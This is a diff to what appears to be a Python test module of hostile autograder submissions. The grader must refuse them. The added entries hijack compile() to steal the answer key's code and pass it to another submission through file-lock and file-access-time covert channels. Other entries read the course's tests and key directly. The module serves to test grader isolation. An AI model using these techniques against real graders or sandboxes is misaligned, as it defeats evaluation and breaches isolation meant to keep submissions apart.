@@ -1,9 +1,9 @@
 """Submissions for module 91 that attack whatever grades them. None of them can halve a number.
 
 Each entry is code for the top of the exercise file, code for `halve`, and what the grade or its report says of it: the
-proof that the attack reached what it attacks, and was stopped there. `double` is right, so none may have more than the
-30 points of `double`. COURSE is the instructor's checkout, KEY its answer key, ZIP a zip of the key, OUTSIDE a folder
-that has to stay as it is, WRITTEN a name for a file that no other test writes.
+proof that the attack reached what it attacks, and was stopped there. `double` is right, unless the entry has other code
+for it, so none may have more than the 30 points of `double`. COURSE is the instructor's checkout, KEY its answer key,
+ZIP a zip of the key, OUTSIDE a folder that has to stay as it is, WRITTEN a name for a file that no other test writes.
 
 BEATEN says which attacks succeed against a grader without one of its walls (weakened.py), and how.
 """
@@ -28,7 +28,7 @@ _SAY_SO = "raise RuntimeError(f'{refused} of {tried} refused')"
 _ALL_REFUSED = r"halve raised RuntimeError: ([1-9]\d*) of \1 refused"
 """What is tried and refused by the kernel. What does not exist, or goes wrong otherwise, is not counted as refused."""
 
-TO_THE_KEY: dict[str, tuple[str, str, str]] = {
+TO_THE_KEY: dict[str, tuple[str, ...]] = {
     "import": (
         "",
         "import g2c.solutions.doubling\nreturn g2c.solutions.doubling.halve(number)",
@@ -103,7 +103,38 @@ TO_THE_KEY: dict[str, tuple[str, str, str]] = {
 }
 """Ways to the answer key, which lead there where nothing stops them."""
 
-HOSTILE = TO_THE_KEY | {
+_STEALS_WHAT_IS_LENT = (
+    "import builtins, textwrap\nstolen = ''\ndef compile(source, *rest):\n    global stolen\n"
+    "    stolen = textwrap.dedent(source[source.index('    def double'):source.index('    globals()')]) + '\\0'\n"
+    "    return builtins.compile(source, *rest)\n"
+    "def bits(): return [place for place in range(8 * len(stolen)) if ord(stolen[place // 8]) >> place % 8 & 1]\n"
+    "def read(bits): return bytes(sum((8 * n + k in bits) << k for k in range(8)) for n in range(125))\n"
+    "def use(found): exec(found.partition(b'\\0')[0], globals())\n"
+)
+"""What comes of it where the answer key's code for `double` is put into this file, as it once was."""
+_WRONG = "def double(number): return 0"
+
+HOSTILE: dict[str, tuple[str, ...]] = TO_THE_KEY | {
+    # To the key, and from a submission to another one
+    "locks_of_the_spy": (
+        _REFUSED + _STEALS_WHAT_IS_LENT + "import fcntl, time\nplace = open('/dev/null', 'r+b')\n"
+        "def lock(bits):\n    for bit in bits:\n"
+        "        attempt(fcntl.lockf, place, fcntl.LOCK_EX | fcntl.LOCK_NB, 1, 1 + bit)",
+        "lock([*bits(), 1000] if stolen else [1001])\nif stolen:\n    time.sleep(9)\n" + _SAY_SO,
+        _ALL_REFUSED,
+        _WRONG,
+    ),
+    "locks_of_the_reader": (
+        _REFUSED + _STEALS_WHAT_IS_LENT + "import fcntl, struct, time\nplace = open('/dev/null', 'r+b')\n"
+        "def is_locked(bit):\n    asked = struct.pack('hhqqi4x', fcntl.F_WRLCK, 0, 1 + bit, 1, 0)\n"
+        "    found = attempt(fcntl.fcntl, place, fcntl.F_GETLK, asked)\n"
+        "    return found is not None and struct.unpack('hhqqi4x', found)[0] != fcntl.F_UNLCK\n",
+        _SAY_SO,
+        _ALL_REFUSED,
+        "end = time.monotonic() + 18\nwhile not is_locked(1000) and not refused and time.monotonic() < end:\n"
+        f"    time.sleep(0.02)\n{_WRONG}\nif is_locked(1000):\n"
+        "    use(read({bit for bit in range(1000) if is_locked(bit)}))\n",
+    ),
     "tests_of_the_course": (
         "",
         "return eval(open(COURSE + '/tests/test_doubling.py').read().split('halve(6) ==')[1].split(',')[0])",
@@ -458,9 +489,19 @@ BEATEN: dict[str, dict[str, tuple[int, int, int] | str]] = {
         "modes_and_times": _NOT_REFUSED,
         "network": _NOT_REFUSED,
     },
+    "key_in_the_process": {"locks_of_the_spy": (0, 0, 0), "locks_of_the_reader": (30, 0, 0)},
     "one_process": dict.fromkeys(("equals_everything", "lies_about_its_class", "a_number_that_changes"), _HALF),
 }
 """Change of weakened.py -> attack -> the points that it then earns, or what the report then says."""
+
+
+TIMES = (
+    f"{_STEALS_WHAT_IS_LENT}import os\nfiles = [f'{{FILES}}/{{number}}' for number in range(1000)]\n{_WRONG}\n"
+    "times = [os.stat(file) for file in files]\n"
+    "use(read({bit for bit, time in enumerate(times) if time.st_atime > time.st_mtime}))\n\n\n"
+    "def halve(number):\n    for bit in bits():\n        open(files[bit], 'rb').read(1)\n    return 0\n"
+)
+"""A submission that tells the next grading of itself what it has stolen, by reading some of the files in FILES."""
 
 
 def written_name(outside: Path) -> str:
@@ -469,10 +510,10 @@ def written_name(outside: Path) -> str:
 
 def source(name: str, course: Path, outside: Path) -> str:
     """The exercise file of an entry."""
-    top, body, _ = HOSTILE[name]
+    top, body, _, double = (*HOSTILE[name], DOUBLE)[:4]
     places = {"COURSE": course, "KEY": course / "g2c/solutions/doubling.py", "OUTSIDE": outside}
     places["ZIP"] = outside / "key.zip"
     lines = [f"{word} = {str(path)!r}" for word, path in places.items()]
     lines.append(f"WRITTEN = {written_name(outside)!r}")
     function = f"def halve(number):\n{textwrap.indent(body, '    ')}\n"
-    return "\n".join([top if name == "unknown_encoding" else "", *lines, top, f"{DOUBLE}\n\n{function}"])
+    return "\n".join([top if name == "unknown_encoding" else "", *lines, top, f"{double}\n\n{function}"])
